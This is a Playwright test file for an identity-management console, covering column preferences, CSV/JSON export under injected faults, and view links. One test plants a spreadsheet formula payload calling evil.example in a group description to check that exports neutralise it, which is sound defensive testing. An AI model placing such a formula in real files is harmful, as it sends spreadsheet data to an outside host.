import { AxeBuilder } from "@axe-core/playwright";
import type { Download, Page } from "@playwright/test";
import { readFile } from "node:fs/promises";

import type { Group } from "~/contract/iam/groups";
import type { Identity } from "~/contract/iam/identities";

import type { Api } from "./api";
import { fault, ownService, test as throughProxy } from "./faulty";
import { expect, register, test } from "./fixtures";
import { Keyboard } from "./keyboard";

const machine = (name: string, description = "") => ({
  name,
  description,
  claimMatch: { issuer: "https://issuer.example", subject: name },
});

/** Side by side, in no order. */
async function createAll(api: Api, path: string, bodies: readonly object[]): Promise<void> {
  const left = [...bodies];
  const create = async (): Promise<void> => {
    for (let body = left.pop(); body; body = left.pop()) await api.post(path, body);
  };
  await Promise.all(Array.from({ length: 8 }, create));
}

/** All rows of a list as the API has them. */
async function allOf<T>(api: Api, collection: string, query: Record<string, string>): Promise<T[]> {
  const rows: T[] = [];
  let token = "";
  do {
    const asked = new URLSearchParams({ ...query, page_size: "200", ...(token && { page_token: token }) });
    const page = await api.get<Record<string, unknown>>(`/iam/v2/${collection}?${asked.toString()}`);
    rows.push(...(page[collection] as T[]));
    token = String(page["nextPageToken"] ?? "");
  } while (token !== "");
  return rows;
}

const textOf = async (download: Download): Promise<string> => readFile(await download.path(), "utf8");

async function chooseTool(page: Page, name: string): Promise<void> {
  await page.getByRole("button", { name: "More for this list" }).click();
  await page.getByRole("menuitem", { name }).click();
}

const headers = (page: Page, list = "Identities") =>
  page.getByRole("table", { name: list }).getByRole("columnheader").allTextContents();

async function hasNoFinding(page: Page, inside: string): Promise<void> {
  const { violations } = await new AxeBuilder({ page }).include(inside).analyze();
  expect(violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(" | ")}`)).toEqual(
    [],
  );
}

test("columns are chosen by a person, per list, and stay theirs in a browser that others use", async ({
  person,
}) => {
  const { page, context, api, organization, open } = person;
  await api.post(`/iam/v2/identities/${organization.uid}`, machine("ci"));
  await api.post(`/iam/v2/groups/${organization.uid}`, { name: "team" });
  await open(`identities?group=${organization.uid}`);
  const usual = ["Name", "Kind", "Matches", "Last seen", "Created", "Actions"];
  await expect(page.getByRole("link", { name: "ci" })).toBeVisible();
  expect(await headers(page)).toEqual(usual);

  // By keys alone.
  const keyboard = new Keyboard(page);
  const button = page.getByRole("button", { name: "Choose columns" });
  await keyboard.walkTo(button);
  await keyboard.press("Enter");
  const chooser = page.getByRole("dialog", { name: "Columns" });
  await expect(chooser.getByRole("checkbox", { name: "Kind" })).toBeFocused();
  await expect(chooser.getByRole("checkbox", { name: /^Name/ })).toBeDisabled();
  await hasNoFinding(page, "[popover][role=dialog]:popover-open");
  await keyboard.press("Space");
  await expect.poll(() => headers(page)).toEqual(usual.filter((each) => each !== "Kind"));
  await keyboard.walkTo(chooser.getByRole("checkbox", { name: "Created" }));
  await keyboard.press("Space");
  const own = ["Name", "Matches", "Last seen", "Actions"];
  await expect.poll(() => headers(page)).toEqual(own);
  await keyboard.press("Escape");
  await expect(chooser).toBeHidden();
  await expect(button).toBeFocused();
  await page.getByRole("button", { name: "Make rows compact" }).click();

  // Nothing of it is in the address, so that a link shows its reader what they chose.
  expect(new URL(page.url()).search).toBe(`?group=${organization.uid}`);
  await page.reload();
  await expect(page.getByRole("link", { name: "ci" })).toBeVisible();
  expect(await headers(page)).toEqual(own);
  await expect(page.getByRole("button", { name: "Make rows comfortable" })).toBeVisible();
  const second = await context.newPage();
  await second.goto(page.url());
  await expect(second.getByRole("link", { name: "ci" })).toBeVisible();
  expect(await headers(second)).toEqual(own);
  await second.close();
  await open(`groups?group=${organization.uid}`);
  await expect.poll(() => headers(page, "Groups")).toContain("Created");

  // Somebody else at the same browser.
  await page.getByRole("button", { name: /^Who am I/ }).click();
  await page.getByRole("button", { name: "Sign out" }).click();
  await expect(page.getByText("You are signed out")).toBeVisible();
  const other = await register(await context.newPage());
  const theirs = await other.api.createOrganization(organization.name.replace("org", "other"));
  await other.api.post(`/iam/v2/identities/${theirs.uid}`, machine("ci"));
  await other.open(`identities?group=${theirs.uid}`);
  await expect(other.page.getByRole("link", { name: "ci" })).toBeVisible();
  expect(await headers(other.page)).toEqual(usual);
  await expect(other.page.getByRole("button", { name: "Make rows compact" })).toBeVisible();
});

test("a chosen column stays as long as there is room, and a reset brings back the usual ones", async ({
  person,
}) => {
  const { page, api, organization, open } = person;
  await api.post(`/iam/v2/identities/${organization.uid}`, machine("ci"));
  await page.setViewportSize({ width: 700, height: 700 });
  await open(`identities?group=${organization.uid}`);
  await expect(page.getByRole("link", { name: "ci" })).toBeVisible();
  expect(await headers(page)).toEqual(["Name", "Matches", "Last seen", "Actions"]);
  await page.getByRole("button", { name: "Choose columns" }).click();
  const chooser = page.getByRole("dialog", { name: "Columns" });
  await chooser.getByRole("checkbox", { name: "Kind" }).check();
  await expect.poll(() => headers(page)).toEqual(["Name", "Kind", "Matches", "Last seen", "Actions"]);
  await chooser.getByRole("checkbox", { name: "Created" }).check();
  await expect(chooser.getByText("no room in this window")).toBeVisible();
  await chooser.getByRole("button", { name: "Reset columns" }).click();
  await expect(chooser).toBeHidden();
  await expect.poll(() => headers(page)).toEqual(["Name", "Matches", "Last seen", "Actions"]);
});

throughProxy(
  "an export has every row of the list in its order, a page that failed included, or says that it is partial",
  ownService,
  async ({ faulty }) => {
    // Hundreds of requests to begin with.
    throughProxy.slow();
    const { page, api, organization, open, proxy } = faulty;
    const names = Array.from({ length: 450 }, (_, index) => `m-${String(index).padStart(3, "0")}`);
    await createAll(
      api,
      `/iam/v2/identities/${organization.uid}`,
      names.map((name) => machine(name)),
    );
    const truth = await allOf<Identity>(api, "identities", {
      "uidp.descendants_of": organization.uid,
      order_by: "name desc",
    });
    expect(truth).toHaveLength(450);
    await open(`identities?group=${organization.uid}&order=name+desc`);
    await expect(page.getByRole("link", { name: "m-449" })).toBeVisible();
    await page.getByRole("button", { name: "Choose columns" }).click();
    await page.getByRole("checkbox", { name: "Kind" }).uncheck();
    await page.keyboard.press("Escape");

    const second = {
      path: /\/identities$/,
      when: ({ query }: { query: URLSearchParams }) => query.has("page_token"),
    };
    const refused = proxy.rule(second, fault.status(403), { times: 1 });
    await chooseTool(page, "Export CSV");
    const dialog = page.getByRole("dialog", { name: "Export identities as CSV" });
    await expect(dialog.getByText("Name, Matches, Last seen, Created, uid")).toBeVisible();
    await refused.met();
    await expect(dialog.getByText("Stopped: 200 of 450 rows read. The fault proxy says 403.")).toBeVisible();
    await expect(dialog).toContainText("an apostrophe stands in front");
    await hasNoFinding(page, "dialog[open]");
    const [half] = await Promise.all([
      page.waitForEvent("download"),
      dialog.getByRole("button", { name: "Download partial file" }).click(),
    ]);
    const day = new Date().toISOString().slice(0, 10);
    expect(half.suggestedFilename()).toBe(`identities-${organization.name}-partial-${day}.csv`);
    expect((await textOf(half)).trimEnd().split("\r\n")).toHaveLength(201);

    // Passing by itself, and then the whole.
    const cut = proxy.rule(second, fault.cutBefore, { times: 1 });
    const [whole] = await Promise.all([
      page.waitForEvent("download"),
      dialog.getByRole("button", { name: "Continue" }).click(),
    ]);
    await cut.met();
    expect(whole.suggestedFilename()).toBe(`identities-${organization.name}-${day}.csv`);
    await expect(dialog.getByText("450 of 450 rows read.")).toBeVisible();
    const [head, ...lines] = (await textOf(whole)).trimEnd().split("\r\n");
    expect(head).toBe("\uFEFFName,Matches,Last seen,Created,uid");
    expect(lines).toEqual(
      truth.map(({ name, uid, createTime }) => [name, name, "never", createTime, uid].join(",")),
    );
    await dialog.getByRole("button", { name: "Close" }).last().click();
    await expect(page.getByRole("button", { name: "More for this list" })).toBeFocused();

    // A filter that the service lacks holds for the file as well.
    await page.getByRole("textbox", { name: "Name or description contains" }).fill("-02");
    await page.keyboard.press("Enter");
    await expect(page.getByText("10 of 450 identities", { exact: true }).first()).toBeVisible();
    const slow = proxy.rule(second, fault.none, { hold: "answer" });
    const [json] = await Promise.all([
      page.waitForEvent("download"),
      (async () => {
        await chooseTool(page, "Export JSON");
        const running = page.getByRole("dialog", { name: "Export identities as JSON" });
        await expect(running.getByText("200 of 450 rows read, 0 match")).toBeVisible();
        await running.getByRole("button", { name: "Stop" }).click();
        await expect(running.getByText(/^Stopped: 200 of 450 rows read, 0 match\./)).toBeVisible();
        slow.remove();
        await running.getByRole("button", { name: "Resume" }).click();
      })(),
    ]);
    expect(json.suggestedFilename()).toBe(`identities-${organization.name}-${day}.json`);
    expect(JSON.parse(await textOf(json))).toEqual(truth.filter(({ name }) => name.includes("-02")));
  },
);

test("a file of groups has the names above each, and no cell that a spreadsheet would run", async ({
  person,
}) => {
  const { page, api, organization, open } = person;
  const evil = '=HYPERLINK("https://evil.example/?"&A1,"open")';
  const outer = await api.post<Group>(`/iam/v2/groups/${organization.uid}`, { name: "outer" });
  const inner = await api.post<Group>(`/iam/v2/groups/${outer.uid}`, { name: "inner", description: evil });
  await open(`groups?group=${outer.uid.replaceAll("/", "_")}`);
  await expect(page.getByRole("link", { name: "inner" })).toBeVisible();
  const [file] = await Promise.all([page.waitForEvent("download"), chooseTool(page, "Export CSV")]);
  expect(file.suggestedFilename()).toMatch(/^groups-outer-\d{4}-\d{2}-\d{2}\.csv$/);
  const [head, line] = (await textOf(file)).trimEnd().split("\r\n");
  expect(head).toBe("\uFEFFName,Path,Description,Created,Updated,uid");
  expect(line).toBe(
    [
      "inner",
      `${organization.name} / outer`,
      `"'${evil.replaceAll('"', '""')}"`,
      inner.createTime,
      inner.updateTime,
      inner.uid,
    ].join(","),
  );
});

test("a link to a view opens the same view elsewhere", async ({ person }) => {
  const { page, context, api, organization, open } = person;
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  const names = Array.from({ length: 60 }, (_, index) => `m-${String(index).padStart(2, "0")}`);
  await createAll(
    api,
    `/iam/v2/identities/${organization.uid}`,
    names.map((name) => machine(name)),
  );
  await open("identities?order=name+desc&kind=claims");
  await expect(page.getByRole("link", { name: "m-59" })).toBeVisible();
  await page.getByLabel("Jump to row").fill("31");
  await page.keyboard.press("Enter");
  await expect(page).toHaveURL(/at=30/);
  await chooseTool(page, "Copy link to this view");
  await expect(page.getByText("Copied the link")).toBeVisible();
  const link = new URL(await page.evaluate(() => navigator.clipboard.readText()));
  expect(Object.fromEntries(link.searchParams)).toEqual({
    group: organization.uid,
    order: "name desc",
    kind: "claims",
    at: "30",
  });
  const other = await context.newPage();
  await other.goto(link.href);
  await expect(other.getByRole("link", { name: "m-29" })).toBeInViewport();
  await expect(other.getByText(/^31–\d+ of 60$/)).toBeVisible();
  await expect(other.getByRole("combobox", { name: "Kind" })).toHaveValue("claims");
});
